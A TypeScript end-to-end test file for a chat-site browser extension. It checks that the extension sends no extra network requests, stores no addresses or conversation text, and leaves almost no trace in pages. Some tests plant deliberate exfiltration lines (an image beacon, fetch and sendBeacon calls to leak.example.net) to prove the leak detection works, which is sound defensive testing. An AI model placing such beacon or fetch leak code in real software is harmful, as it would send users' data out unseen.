/** Promises one and two: nothing leaves the browser, and the conversation is never read. */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, onTestFinished } from 'vitest';
import { builtFor, copyOfBuild } from './built';
import { type Browser, CHIP, launch, PANEL } from './driver';
import { it, name } from './fixture';
import { start } from './fixture-server';
import { poll } from './in-page';
import { labelStands, openPanel } from './meeting';
import { allStored, drained } from './stored';

const settle = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));

/** What a person does in a minute; with the extension also opens the panel, the popup and the options. */
async function browse(browser: Browser, withExtension: boolean): Promise<void> {
  // Every family is a web font there, a file for each character, and an answer streams all the while.
  const page = await browser.open('https://chatgpt.com/fonts');
  if (withExtension) {
    await openPanel(page);
    await page.inShadow(PANEL, (root) => {
      for (const details of root.querySelectorAll('details')) details.open = true;
    });
    const popup = await browser.openPopup(page);
    await popup.waitFor(() => document.querySelector('.lead') !== null);
    await popup.close();
    const options = await browser.open(browser.extensionUrl('src/pages/options/options.html'));
    await options.waitFor(() => document.querySelector('h1') !== null);
    await options.close();
  }
  // The browser asks for a page's icon at a time of its own: both walks stay until it has, so that neither has it alone.
  await poll("the page's icon", async () => browser.requests().some(({ path }) => path === '/favicon.ico'));
  await page.goto('https://gemini.google.com/');
  await page.goto('https://www.example.org/');
  await settle(1500);
}

/** Hosts that were asked for anything, and the paths asked of the pages visited. */
async function hostsAsked(extension?: string): Promise<string[]> {
  const server = await start();
  const browser = await launch(name, { server, ...(extension && { extension }), language: 'en' });
  try {
    await browse(browser, extension !== undefined);
    return [
      ...new Set(
        browser.requests().map(({ host, path }) => (/chatgpt|gemini|example\.org/.test(host) ? host + path : host)),
      ),
    ].sort();
  } finally {
    await browser.close();
    await server.close();
  }
}

/** Hosts that browsers ask for by themselves, at times of their own. */
const BROWSER_NOISE = /(^|\.)(googleapis\.com|google\.com|gvt1\.com|mozilla\.(com|org|net)|firefox\.com|mozaws\.net)$/;
const withoutNoise = (hosts: readonly string[]) => hosts.filter((host) => !BROWSER_NOISE.test(host));

describe(`in ${name}`, () => {
  it('zero requests leave the browser that do not leave without the extension', async () => {
    const without = await hostsAsked();
    const withIt = await hostsAsked(builtFor(name));
    expect(withoutNoise(withIt).filter((host) => !without.includes(host))).toEqual([]);
  });

  it('and the trap works: a deliberate leak from a page script is caught', async ({ own }) => {
    const leaky = copyOfBuild(name, (folder) =>
      writeFileSync(join(folder, 'src/content/detect.iife.js'), "new Image().src = 'https://leak.example.net/secret';"),
    );
    onTestFinished(leaky.remove);
    const browser = await own({ extension: leaky.folder });
    await browser.open('https://chatgpt.com/');
    await poll('the leak', async () => browser.requests().some(({ host }) => host === 'leak.example.net'));
  });

  it('its own pages and background cannot send anything even if they wanted to', async ({ browser }) => {
    const outcome = await browser.inBackground(
      "try { await fetch('https://leak.example.net/background'); return 'sent'; } catch { return 'refused'; }",
    );
    expect(outcome).toBe('refused');
    for (const name of ['welcome', 'options', 'popup', 'side', 'diary', 'make', 'print', 'explorer', 'lesson']) {
      const page = await browser.open(browser.extensionUrl(`src/pages/${name}/${name}.html`));
      const sent = await page.evaluate(async () => {
        const beacon = navigator.sendBeacon('https://leak.example.net/beacon');
        return fetch('https://leak.example.net/page').then(
          () => 'sent',
          () => `refused ${beacon}`,
        );
      });
      expect([name, sent]).toEqual([name, expect.stringMatching(/^refused/)]);
      await page.close();
    }
    expect(browser.requests().map(({ host }) => host)).not.toContain('leak.example.net');
  });

  it('the page for a pack from a link asks nobody by being opened', async ({ browser, server }) => {
    server.clear();
    const page = await browser.open(browser.extensionUrl('src/pages/link/link.html'));
    await page.waitFor(() => document.querySelector('.link-field') !== null);
    await settle(500);
    expect(withoutNoise(browser.requests().map(({ host }) => host))).toEqual([]);
  });

  it('stores no address, no conversation and nothing finer than a day', async ({ browser }) => {
    const page = await browser.open('https://chatgpt.com/c/11111111-aaaa-4000-8000-000000000001');
    await openPanel(page);
    await drained(browser);
    const stored = await allStored(browser);
    expect(stored).toHaveProperty('seen');
    expect(JSON.stringify(stored)).not.toMatch(/https?:|11111111|landlord|\d{2}:\d{2}/);
    const databases = await browser.inBackground(
      'return (await indexedDB.databases()).map((database) => database.name)',
    );
    expect((databases as string[]).sort()).toEqual(['knowledge', 'person']);
  });

  it('leaves one closed element beside the body and not a trace inside the page', async ({ browser }) => {
    const page = await browser.open('https://chatgpt.com/');
    await labelStands(page);
    expect(
      await page.evaluate(() =>
        [...document.documentElement.children, ...document.body.children]
          .filter((child) => child.localName === 'div' && child.attributes.length === 0)
          .map((child) => child.outerHTML),
      ),
      // A sign without width, which no style and no reader shows: what pages do to empty elements is not done to ours.
    ).toEqual(['<div>\u200b</div>']);
    expect(await page.onHost(CHIP, (host) => host.shadowRoot)).toBeNull();
    expect(
      await page.evaluate(() =>
        [
          document.documentElement.className,
          document.documentElement.id,
          document.body.className,
          document.body.id,
        ].join(''),
      ),
    ).toBe('');
  });
});
